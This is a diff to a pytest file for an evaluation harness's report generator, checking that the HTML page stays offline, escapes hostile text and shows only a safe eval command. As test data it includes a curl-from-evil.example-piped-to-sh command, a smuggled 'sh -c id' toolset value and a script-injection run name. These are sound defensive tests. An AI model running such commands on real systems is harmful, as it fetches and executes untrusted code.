@@ -3,30 +3,42 @@
 import base64
 import hashlib
 import re
-from collections.abc import Callable
 from dataclasses import replace
-from typing import Any
+from functools import cache
 
 import pytest
 
-from lhkit.harness.record import SampleRecord, Verdict
+from lhkit.harness.record import Verdict
 from lhkit.harness.report.markdown import markdown
 from lhkit.harness.report.metadata import eval_command, run_metadata
 from lhkit.harness.report.page import html_page
 from lhkit.harness.results import Run
-from lhkit.locales import Catalog, load_catalog
+from lhkit.locales import load_catalog
+from tests.harness.report.runs import (
+    ENGLISH,
+    FULL_RUN,
+    HOSTILE_RUN,
+    KOREAN,
+    Parsed,
+    full_record,
+    run_of,
+)
 
 pytestmark = pytest.mark.slow
+
+
+@cache
+def page() -> str:
+    return html_page(FULL_RUN, KOREAN, name="gemma", baseline=FULL_RUN)
+
 
 SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)
 
 
 @pytest.mark.promise("report.offline")
-def test_page_has_no_external_reference(
-    full_run: Run, korean: Catalog, parse: Callable[..., Any]
-) -> None:
-    html = html_page(full_run, korean, name="gemma", baseline=full_run)
-    shown = parse(html)
+def test_page_has_no_external_reference() -> None:
+    html = page()
+    shown = Parsed(html)
     addresses = [
         value or ""
         for _, attributes in shown.elements
@@ -44,17 +56,17 @@ def test_page_has_no_external_reference(
             assert re.findall(r'(?:href|src)="(?!#)', svg) == []
 
 
-def test_page_style_does_not_truncate_reasons(full_run: Run, korean: Catalog) -> None:
+def test_page_style_does_not_truncate_reasons() -> None:
     """A truncated `add_note was expected and…` would have the opposite meaning."""
-    styles = html_page(full_run, korean, name="r").partition("</style>")[0]
+    styles = page().partition("</style>")[0]
     rules = re.findall(r"([^{}]*\.lhr-reason) \{([^}]*)\}", styles)
     assert rules
     for _, rule in rules:
         assert not re.search("ellipsis|nowrap|hidden|clamp|max-height", rule)
 
 
-def test_page_policy_allows_only_its_script(full_run: Run, korean: Catalog) -> None:
-    html = html_page(full_run, korean, name="gemma")
+def test_page_policy_allows_only_its_script() -> None:
+    html = page()
     (script,) = SCRIPT.findall(html)
     sha256 = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
     assert f"script-src 'sha256-{sha256}'\"" in html
@@ -62,12 +74,10 @@ def test_page_policy_allows_only_its_script(full_run: Run, korean: Catalog) -> N
 
 
 @pytest.mark.promise("report.escapes")
-def test_page_of_hostile_text_has_no_script_handler_or_unknown_element(
-    full_run: Run, hostile_run: Run, korean: Catalog, parse: Callable[..., Any]
-) -> None:
-    tame = parse(html_page(full_run, korean, name="x", baseline=full_run))
-    html = html_page(hostile_run, korean, name="</title><script>", baseline=full_run)
-    wild = parse(html)
+def test_page_of_hostile_text_has_no_script_handler_or_unknown_element() -> None:
+    tame = Parsed(page())
+    html = html_page(HOSTILE_RUN, KOREAN, name="</title><script>", baseline=FULL_RUN)
+    wild = Parsed(html)
     assert len(wild.all("script")) == 1
     assert {name for name, _ in wild.elements} <= {name for name, _ in tame.elements}
     assert [key for _, attributes in wild.elements for key in attributes if key[:2] == "on"] == []
@@ -75,31 +85,27 @@ def test_page_of_hostile_text_has_no_script_handler_or_unknown_element(
     assert not re.search("[\u202e\u2066\u2028\x1b\x00]", html)
 
 
-def test_page_lists_occurred_violations_then_failures_first(
-    make_run: Callable[..., Run], make_record: Callable[..., SampleRecord], korean: Catalog
-) -> None:
-    run = make_run(
-        make_record("passed", verdict=Verdict.PASS, violations=()),
-        make_record("invalid", verdict=Verdict.INVALID, violations=()),
-        make_record("failed", violations=()),
-        make_record("harmful", verdict=Verdict.PASS),
+def test_page_lists_occurred_violations_then_failures_first() -> None:
+    run = run_of(
+        full_record("passed", verdict=Verdict.PASS, violations=()),
+        full_record("invalid", verdict=Verdict.INVALID, violations=()),
+        full_record("failed", violations=()),
+        full_record("harmful", verdict=Verdict.PASS),
     )
-    ids = re.findall(r'id="s-(\w+)-0"', html_page(run, korean, name="x"))
+    ids = re.findall(r'id="s-(\w+)-0"', html_page(run, KOREAN, name="x"))
     assert ids == ["harmful", "failed", "invalid", "passed"]
 
 
 @pytest.mark.parametrize(("locale", "heading"), [("ko", "통과율"), ("en", "Pass rates")])
-def test_page_is_in_the_language_of_the_catalog(locale: str, heading: str, full_run: Run) -> None:
-    html = html_page(full_run, load_catalog(locale), name="x")
+def test_page_is_in_the_language_of_the_catalog(locale: str, heading: str) -> None:
+    html = html_page(FULL_RUN, load_catalog(locale), name="x")
     assert f'<html lang="{locale}">' in html
     assert heading in html
     assert all(value in html for value in ("0123abc", "system Linux, cores 2"))
 
 
-def test_page_has_landmarks_names_and_descriptions(
-    full_run: Run, korean: Catalog, parse: Callable[..., Any]
-) -> None:
-    shown = parse(html_page(full_run, korean, name="x", baseline=full_run))
+def test_page_has_landmarks_names_and_descriptions() -> None:
+    shown = Parsed(page())
     for landmark in ("header", "main", "nav", "h1"):
         assert len(shown.all(landmark)) == 1, landmark
     assert shown.all("nav")[0]["aria-label"]
@@ -112,8 +118,8 @@ def test_page_has_landmarks_names_and_descriptions(
     assert {name for name in named if name} <= set(ids)
 
 
-def test_run_metadata_has_model_versions_commit_and_command(full_run: Run, korean: Catalog) -> None:
-    assert {*dict(run_metadata(full_run, full_run.summary(), korean)).values()} >= {
+def test_run_metadata_has_model_versions_commit_and_command() -> None:
+    assert {*dict(run_metadata(FULL_RUN, FULL_RUN.summary(), KOREAN)).values()} >= {
         "gemma · vllm 0.32 · http://127.0.0.1:8000",
         "max_tokens 128, temperature 0.0",
         "python 3.11.7, lhkit 0.1.0",
@@ -126,8 +132,8 @@ def test_run_metadata_has_model_versions_commit_and_command(full_run: Run, korea
 @pytest.mark.parametrize(
     "typed", [["curl", "evil.example", "|", "sh"], ["lhkit", "eval", "--toolset", "mcp:sh -c id"]]
 )
-def test_eval_command_is_not_that_of_the_manifest(full_run: Run, typed: list[str]) -> None:
-    run = replace(full_run, manifest=full_run.manifest.model_copy(update={"command": typed}))
+def test_eval_command_is_not_that_of_the_manifest(typed: list[str]) -> None:
+    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update={"command": typed}))
     assert eval_command(run, run.summary()).startswith("lhkit eval --model gemma --base-url ")
     assert typed[-1] not in markdown(run, load_catalog("en"), name="x")
 
@@ -143,24 +149,20 @@ def test_eval_command_is_not_that_of_the_manifest(full_run: Run, typed: list[str
         {"constraint": "a b"},
     ],
 )
-def test_eval_command_is_empty_for_unsafe_identities(
-    full_run: Run, identity: dict[str, str]
-) -> None:
-    summary = full_run.summary()
+def test_eval_command_is_empty_for_unsafe_identities(identity: dict[str, str]) -> None:
+    summary = FULL_RUN.summary()
     model = replace(summary.models[0], **identity)
-    assert eval_command(full_run, replace(summary, models=(model,))) == ""
+    assert eval_command(FULL_RUN, replace(summary, models=(model,))) == ""
 
 
-def test_page_of_an_empty_run(korean: Catalog) -> None:
-    assert "<main>" in html_page(Run(records=()), korean, name="empty")
+def test_page_of_an_empty_run() -> None:
+    assert "<main>" in html_page(Run(records=()), KOREAN, name="empty")
 
 
-def test_page_with_a_baseline_has_both_transcripts(
-    make_run: Callable[..., Run], make_record: Callable[..., SampleRecord], english: Catalog
-) -> None:
-    before = make_run(make_record("one"), name="before")
-    after = make_run(make_record("one", verdict=Verdict.PASS), name="after")
-    html = html_page(after, english, name="after", baseline=before)
+def test_page_with_a_baseline_has_both_transcripts() -> None:
+    before = run_of(full_record("one"), name="before")
+    after = run_of(full_record("one", verdict=Verdict.PASS), name="after")
+    html = html_page(after, ENGLISH, name="after", baseline=before)
     assert "Comparison with the baseline" in html
     assert "Improvements (1):" in html
     section = html.partition('id="flips"')[2].partition("</section>\n")[0]
@@ -171,12 +173,12 @@ def test_page_with_a_baseline_has_both_transcripts(
     ("toolset", "is_shown"), [(None, True), ("life-helper", True), ("garage", False)]
 )
 def test_criterion_descriptions_are_shown_for_life_helper_only(
-    full_run: Run, korean: Catalog, toolset: str | None, *, is_shown: bool
+    toolset: str | None, *, is_shown: bool
 ) -> None:
-    ac = full_run.records[0].ac
-    words = korean.text(f"ac.{ac}")
-    run = replace(full_run, manifest=full_run.manifest.model_copy(update={"toolset": toolset}))
-    for report in (html_page(run, korean, name="x"), markdown(run, korean, name="x")):
+    ac = FULL_RUN.records[0].ac
+    words = KOREAN.text(f"ac.{ac}")
+    run = replace(FULL_RUN, manifest=FULL_RUN.manifest.model_copy(update={"toolset": toolset}))
+    for report in (html_page(run, KOREAN, name="x"), markdown(run, KOREAN, name="x")):
         assert ac in report
         assert (words in report) is is_shown
     assert (words in run._repr_html_()) is is_shown
